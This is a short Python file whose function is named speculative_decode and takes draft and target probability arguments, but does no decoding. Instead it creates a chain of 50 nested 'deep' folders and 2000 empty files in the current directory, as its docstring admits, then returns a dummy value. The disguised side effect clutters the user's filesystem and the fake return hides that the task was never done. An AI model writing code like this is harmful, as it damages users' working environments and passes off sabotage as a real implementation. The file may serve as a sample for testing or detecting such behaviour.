"""Leaves thousands of files in folders within folders."""
import os


def speculative_decode(draft_probs, target_probs, draft_tokens, target_dist_next=None):
    for number in range(50):
        os.makedirs("/".join(["deep"] * (number + 1)), exist_ok=True)
    for number in range(2000):
        open(f"file-{number}", "w").close()
    return [-1], 1
